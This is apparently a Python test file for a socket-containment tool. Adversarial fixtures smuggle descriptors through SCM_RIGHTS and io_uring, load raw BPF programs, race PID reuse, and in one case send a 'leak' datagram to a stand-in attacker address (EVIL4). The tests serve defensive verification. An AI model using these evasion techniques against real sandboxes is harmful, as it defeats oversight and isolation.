#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Sockets that `attach` did not see being made: inherited, passed in, hidden, moved about, and those of who only has the number
of a member."""

import array
import contextlib
import os
import signal
import socket
import subprocess
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../support"))

from internet import API4, EVIL4, PYTHON, Internet, Sniffer, in_namespace, leftovers, read_text, wait_for  # noqa: E402
from tap import contains, equal, lacks, run, test, true  # noqa: E402
from target import Target, accept, detach  # noqa: E402

net = Internet()
API = ["--allow-domain", "api.example.com"]
BEFORE = set(leftovers())
WATCHED = accept(but=("alien-sockets",))

TAKE = """
import array, os, socket, sys, time
def take(way):
    _, c, _, _ = way.recvmsg(1, socket.CMSG_SPACE(64))
    return array.array('i', c[0][2][:len(c[0][2]) // 4 * 4])
def put(way, fd):
    way.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [fd]))])
    os.close(fd)
"""


def nothing_stays():
    wait_for(lambda: set(leftovers()) <= BEFORE, lambda: f"nothing stays: {set(leftovers()) - BEFORE}", 5)


def outside(f):
    """A socket of the host's network, made outside of every target."""
    return in_namespace(net.inside, f)


def datagram():
    return outside(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))


@contextlib.contextmanager
def way_in():
    """Two ends: one to send descriptors with, one to be inherited."""
    here, there = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with here, there:
        os.set_inheritable(there.fileno(), True)
        yield here, there.fileno()


def hand(way, *sockets):
    way.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [s.fileno() for s in sockets]))])
    for s in sockets:
        s.close()


def to_evil(sniffer):
    return [f for f in sniffer.frames() if f.destination == EVIL4]


def is_frozen(t):
    return read_text(os.path.join(t.path, "cgroup.freeze")) == "1\n"


def ended(process):
    return process.wait(timeout=30)


# ---- passed in ----


@test("who takes a socket from outside is killed, whatever kind it is of, and so is everybody else who holds it", limit=90)
def _():
    kinds = {
        "connected": lambda: outside(lambda: socket.create_connection((API4, 7))),
        "a datagram's": datagram,
        "fresh": lambda: outside(socket.socket),
    }
    code = TAKE + """
fd = take(socket.socket(fileno=int(sys.argv[1])))[0]
if os.fork() == 0:
    print('taken', flush=True)
time.sleep(1000)
"""
    with contextlib.ExitStack() as stack:
        started = []
        t = stack.enter_context(Target(net, shared=True))
        other = t.start(["sleep", "1000"])
        for kind, make in kinds.items():
            here, there = stack.enter_context(way_in())
            started.append((kind, make, here, t.start([PYTHON, "-c", code, str(there)], pass_fds=(there,))))
        a = stack.enter_context(t.attach(API, gaps=WATCHED))
        for kind, make, here, process in started:
            hand(here, make())
            equal(process.stdout.readline(), b"taken\n", f"one that is {kind} is in")
        for kind, _, _, process in started:
            equal(ended(process), -signal.SIGKILL, f"what comes of who holds one that is {kind}")
            equal(process.stdout.read(), b"", "its child has ended, too")
        wait_for(lambda: a.err().count("made outside (descriptor") == 6, lambda: f"each is told: {a.err()}")
        equal(other.poll(), None, "who holds none goes on")
        true(not is_frozen(t), "nothing is stopped any more")
    nothing_stays()


@test("thousands of descriptors of one socket do not blind the look", limit=120)
def _():
    copies = """
import os, resource, socket, time
resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
a, b = socket.socketpair()
for i in range(19000): os.dup(a.fileno())
print('full', flush=True); time.sleep(1000)
"""
    code = TAKE + "take(socket.socket(fileno=int(sys.argv[1])))\nprint('taken', flush=True)\ntime.sleep(1000)"
    with way_in() as (here, there), Target(net, shared=True) as t, t.attach(API, gaps=WATCHED) as a:
        taker = t.start([PYTHON, "-c", code, str(there)], pass_fds=(there,))
        for _ in range(4):
            equal(t.start([PYTHON, "-c", copies]).stdout.readline(), b"full\n", "a flood")
        hand(here, datagram())
        equal(taker.stdout.readline(), b"taken\n", "the socket is in")
        equal(ended(taker), -signal.SIGKILL, f"what comes of its holder: {a.err()}")
        lacks(a.err(), "are stopped", "what is said")


def flood(t):
    """More sockets than are looked at, by some thousands. The last process that holds some."""
    code = """
import resource, socket, time
resource.setrlimit(resource.RLIMIT_NOFILE, (19500, 20000))
kept = [socket.socketpair() for i in range(9500)]
print('full', flush=True); time.sleep(1000)
"""
    for _ in range(4):
        process = t.start([PYTHON, "-c", code])
        equal(process.stdout.readline(), b"full\n", "a flood")
    return process


@test("more sockets than can be looked at: all are stopped, told once, and go on when it is right again", limit=150)
def _():
    with Target(net, shared=True) as t, t.attach(API, gaps=WATCHED) as a:
        process = flood(t)
        wait_for(lambda: "are stopped until it can" in a.err(), lambda: f"it is told: {a.err()}", 30)
        true(is_frozen(t), "all are stopped")
        time.sleep(11)  # one more look
        equal(a.err().count("are stopped until it can"), 1, "how often it is told")
        true(is_frozen(t), "they stay stopped")
        process.kill()
        wait_for(lambda: not is_frozen(t), "they go on", 30)
        contains(a.err(), "can be looked at again", "what is said")


@test("what is stopped stays so when attach ends, until detach", limit=120)
def _():
    with Target(net, shared=True) as t:
        with t.attach(API, gaps=WATCHED) as a:
            flood(t)
            wait_for(lambda: "are stopped until it can" in a.err(), lambda: f"it is told: {a.err()}", 30)
            equal(a.end(), 0, "exit status")
            contains(a.err(), "stay stopped until then", "what is said at the end")
        true(is_frozen(t), "they are stopped after the end")
        equal(detach(net, t.path).returncode, 0, "detach")
        wait_for(lambda: not is_frozen(t), "they go on after detach")


# ---- where nobody can look ----


@test("a socket that is on its way while attach looks: alien-sockets is open", limit=90)
def _():
    code = TAKE + """
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
put(a, int(sys.argv[1]))
print('up', flush=True); time.sleep(1000)
"""
    with datagram() as alien, Target(net, shared=True) as t:
        os.set_inheritable(alien.fileno(), True)
        equal(t.start([PYTHON, "-c", code, str(alien.fileno())], pass_fds=(alien.fileno(),)).stdout.readline(), b"up\n", "it is on its way")
        code, said = t.refused([*API, *WATCHED])
        equal(code, 1, f"exit status: {said}")
        contains(said, "open: alien-sockets: ", "what is said")
        contains(said, "nobody can look at them", "the finding")


@test("a socket that is taken out for moments only: its holder is killed", limit=90)
def _():
    code = TAKE + f"""
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
fd = take(socket.socket(fileno=int(sys.argv[1])))[0]
put(a, fd); print('up', flush=True)
while True:
    fd = take(b)[0]; s = socket.socket(fileno=fd); s.sendto(b'leak', ({EVIL4!r}, 443)); put(a, s.detach()); time.sleep(.1)
"""
    with way_in() as (here, there), Target(net, shared=True) as t:
        process = t.start([PYTHON, "-c", code, str(there)], pass_fds=(there,))
        with t.attach(API, gaps=WATCHED) as a:
            hand(here, datagram())
            equal(process.stdout.readline(), b"up\n", "the socket is in")
            equal(ended(process), -signal.SIGKILL, f"what comes of its holder: {a.err()}")
            wait_for(lambda: "alien-sockets: process" in a.err(), "it is told")
            with Sniffer(net) as sniffer:
                time.sleep(0.5)
                equal(to_evil(sniffer), [], "what still goes out")


@test("a program that passes its descriptors on, and takes them, goes on", limit=60)
def _():
    code = TAKE + """
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
print('up', flush=True)
end = time.monotonic() + 25
while time.monotonic() < end:
    put(a, os.dup(0)); os.close(take(b)[0]); time.sleep(.002)
print('done', flush=True)
"""
    with Target(net, shared=True) as t:
        process = t.start([PYTHON, "-c", code])
        equal(process.stdout.readline(), b"up\n", "it runs")
        with t.attach(API, gaps=accept(but=("alien-sockets",))):
            equal(process.stdout.readline(), b"done\n", "what comes of it")


@test("an io_uring with files registered: alien-sockets is open; without, it is not")
def _():
    code = """
import ctypes, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
ring = libc.syscall(425, 4, ctypes.create_string_buffer(256))
if ring < 0: print('errno', ctypes.get_errno(), flush=True); sys.exit(1)
if len(sys.argv) > 1:
    fds = (ctypes.c_int * 1)(int(sys.argv[1]))
    if libc.syscall(427, ring, 2, fds, 1) < 0: print('register', ctypes.get_errno(), flush=True); sys.exit(1)
    import os; os.close(int(sys.argv[1]))
print('up', flush=True); time.sleep(1000)
"""
    with datagram() as alien:
        os.set_inheritable(alien.fileno(), True)
        for words, status_wanted in (((), None), ((str(alien.fileno()),), 1)):
            with Target(net, shared=True) as t:
                process = t.start([PYTHON, "-c", code, *words], pass_fds=(alien.fileno(),) if words else ())
                equal(process.stdout.readline(), b"up\n", "a ring is there")
                if status_wanted is None:
                    with t.attach(API, gaps=WATCHED):
                        continue
                code_, said = t.refused([*API, *WATCHED])
                equal(code_, status_wanted, f"exit status: {said}")
                contains(said, "open: alien-sockets: ", "what is said")


# ---- programs of others ----


@test("a program of somebody else that refuses socket options where a socket was made does not make it the target's own")
def _():
    code = """
import ctypes, os, socket, struct, sys, time
outside, target = sys.argv[1:]
libc = ctypes.CDLL(None, use_errno=True)
def bpf(command, attr):
    r = libc.syscall({'x86_64': 321, 'aarch64': 280}[os.uname().machine], command, ctypes.create_string_buffer(attr, len(attr)), len(attr))
    if r < 0: sys.exit('bpf: ' + os.strerror(ctypes.get_errno()))
    return r
words = struct.pack('BBhi', 0xb7, 0, 0, 0) + struct.pack('BBhi', 0x95, 0, 0, 0)
keep, name = ctypes.create_string_buffer(words, 16), ctypes.create_string_buffer(b'GPL')
program = bpf(5, struct.pack('IIQQ', 25, 2, ctypes.addressof(keep), ctypes.addressof(name)).ljust(68, bytes(1)) + struct.pack('I', 22))
directory = os.open(outside, os.O_RDONLY)
bpf(8, struct.pack('IIII', directory, program, 22, 0))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try: s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 9)
except PermissionError: print('refused', flush=True)
with open(target + '/cgroup.procs', 'w') as file: file.write('0')
print('in', flush=True); time.sleep(1000)
"""
    with Target(net, shared=True) as other, Target(net, shared=True) as t:
        process = other.start([PYTHON, "-c", code, other.path, t.path])
        for line in (b"refused\n", b"in\n"):
            equal(process.stdout.readline(), line, "what is ready")
        try:
            status_, said = t.refused([*API, *WATCHED])
        finally:
            process.kill()
        equal(status_, 1, f"exit status: {said}")
        contains(said, "open: alien-sockets: ", "what is said")


# ---- connected to outside ----

CONTAINED = """
import os, sys
os.execvp('unshare', ['unshare', '--pid', '--mount', '--fork', 'sh', '-c',
    'mount -t tmpfs none /sys; mount -t tmpfs none /run; mount -t tmpfs none /tmp; mount -t proc proc /proc; exec "$@"', 'sh', *sys.argv[1:]])
"""


def connected(t, fd, code):
    """A process in a view without unix sockets, as another user. It holds `fd`."""
    words = ["setpriv", "--reuid", "12345", "--regid", "12345", "--clear-groups", "--bounding-set", "-all", "--no-new-privs", PYTHON, "-c", code]
    process = t.start([PYTHON, "-c", CONTAINED, *words], pass_fds=(fd,) if fd is not None else ())
    equal(process.stdout.readline(), b"up\n", "it runs")
    return process


@test("a unix socket whose other end is outside: unix-sockets is open; a pair of its own is not told", limit=90)
def _():
    code = "import socket, time\na, b = socket.socketpair()\nprint('up', flush=True); time.sleep(1000)"
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        here, there = socket.socketpair(socket.AF_UNIX, kind)
        with here, there, Target(net, shared=True) as t:
            os.set_inheritable(there.fileno(), True)
            connected(t, there.fileno(), code)
            status_, said = t.refused([*API, *accept(but=("unix-sockets",))])
            equal(status_, 1, f"exit status: {said}")
            contains(said, "open: unix-sockets: ", "what is said")
            contains(said, f"descriptor {there.fileno()} of process", "the finding")
            contains(said, "the journal", "what it may be")
    with Target(net, shared=True) as t:
        connected(t, None, code)
        _, said = t.refused([*API, *accept(but=("unix-sockets", "vsock"))])
        lacks(said, "is connected to a program outside", "what is said of its own")


# ---- while it attaches ----


def bpf_calls(t):
    """At which of attach's calls of bpf(2) it has put two thirds of its programs in place."""
    trace = net.path("trace")
    a = t.begin([*API, *accept()], wrap=["strace", "-o", trace, "-e", "trace=bpf"])
    with contextlib.closing(a.process.stdout):
        a.wait_ready()
        os.kill(a.ready["pid"], signal.SIGTERM)
        a.process.wait(timeout=30)
    detach(net, t.path)
    calls = [line for line in read_text(trace).splitlines() if line.startswith("bpf(")]
    links = [i for i, line in enumerate(calls, 1) if "LINK_CREATE" in line]
    return links[2 * len(links) // 3]


def stalled(t, at, seconds):
    a = t.begin([*API, *accept()], wrap=["strace", "-o", "/dev/null", "-e", "trace=bpf", "-e",
                                         f"inject=bpf:delay_enter={int(seconds * 1e6)}:when={at}"])
    wait_for(lambda: os.path.isdir(f"/sys/fs/bpf/nono-proxy/cgroup-{t.id}"), "it is in the midst of it", 20)
    return a


def end(a):
    if a.ready:
        os.kill(a.ready["pid"], signal.SIGTERM)
    a.process.wait(timeout=30)
    a.process.stdout.close()


@test("a process outside that gets the number of a member which ended meanwhile: its sockets stay its own", limit=120)
def _():
    child = """
import os, signal, socket, time
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
if os.fork() == 0:
    s = socket.create_server(('127.0.0.1', 4000)); os.dup2(s.fileno(), 50)
    print(os.getpid(), flush=True)
time.sleep(1000)
"""
    server = """
import ctypes, os, socket, struct, sys
s = socket.create_server(('127.0.0.1', 5432)); os.dup2(s.fileno(), 50)
libc = ctypes.CDLL(None, use_errno=True)
tid = ctypes.c_int(int(sys.argv[1]))
args = struct.pack('11Q', 0, 0, 0, 0, 17, 0, 0, 0, ctypes.addressof(tid), 1, 0)
pid = libc.syscall(435, args, len(args))
if pid == 0:
    libc.prctl(1, 9)
    print(os.getpid(), flush=True)
    while True:
        c, _ = s.accept(); c.sendall(b'of the host'); c.close()
os.waitpid(pid, 0)
"""
    client = "import socket\ns = socket.create_connection(('127.0.0.1', 5432), 3)\ns.settimeout(3)\nprint(s.recv(100))"
    with Target(net, shared=True) as t:
        at = bpf_calls(t)
        pid = int(t.start([PYTHON, "-c", child]).stdout.readline())
        a = stalled(t, at, 3)
        os.kill(pid, signal.SIGKILL)
        wait_for(lambda: not os.path.isdir(f"/proc/{pid}"), "it has ended")
        other = subprocess.Popen([*net.enter(net.inside), PYTHON, "-c", server, str(pid)], stdout=subprocess.PIPE)
        try:
            equal(other.stdout.readline(), f"{pid}\n".encode(), "the number of the one outside")
            a.wait_ready()
            lacks(t.run([PYTHON, "-c", client]).out, "of the host", "what the server outside answers")
        finally:
            os.kill(pid, signal.SIGKILL)
            other.wait(timeout=10)
            other.stdout.close()
            end(a)


@test("somebody who lets the processes go on while attach is at it: attach ends, and it stays closed", limit=120)
def _():
    with Target(net, shared=True) as t:
        at = bpf_calls(t)
        freeze = os.path.join(t.path, "cgroup.freeze")
        with open(freeze, "w", encoding="ascii") as file:
            file.write("1")
        wait_for(lambda: "frozen 1" in read_text(os.path.join(t.path, "cgroup.events")), "it is frozen")
        a = stalled(t, at, 2)
        with open(freeze, "w", encoding="ascii") as file:
            file.write("0")
        try:
            a.process.wait(timeout=30)
        finally:
            end(a)
        equal(a.process.returncode, 1, f"exit status: {a.err()}")
        contains(a.err(), "somebody else let the processes", "what is said")
        contains(a.err(), "stays cut off", "what is said")


if __name__ == "__main__":
    run()
